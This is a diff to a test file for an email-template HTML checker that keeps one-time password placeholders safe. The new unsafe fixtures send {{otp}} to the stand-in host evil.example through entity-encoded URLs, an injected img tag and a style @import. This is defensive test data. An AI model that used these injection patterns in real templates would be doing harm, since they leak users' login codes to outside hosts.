@@ -98,6 +98,7 @@ const safeHtml = [
   '<!--[if !mso]><!--><p>{{otp}}</p><!--<![endif]-->',
   '<!--[if (gte mso 9)|(IE)]><table><![endif]-->{{otp}}<!--[if (gte mso 9)|(IE)]></table><![endif]-->',
   '<!-- note --><img src="https://acme.example/logo.png" alt="a > b">Visit https://acme.example/ {{otp}}',
+  '<p>{{businessName}} &lt;{{otp}}&gt; a&amp;b&#160;&#99999999;</p>',
 ]
 
 const evil = 'https://evil.example/?c='
@@ -139,6 +140,12 @@ const unsafeHtml = [
   `<p>Open ${evil}{{otp}}</p>`,
   '<p>www.evil.example/{{otp}}</p>',
   '<p>evil.example?{{otp}}</p>',
+  '<p>https&#58;//evil.example/{{otp}}</p>',
+  '<p>www&#x2E;evil.example&sol;{{otp}}</p>',
+  // With the businessName `img`, or `e`.
+  '<{{businessName}} src="//evil.example/{{otp}}">',
+  '<styl{{businessName}}>@import "//evil.example/{{otp}}";</style>',
+  '</{{businessName}} {{otp}}>',
 ]
 
 describe('the HTML of a mail (design D47)', () => {
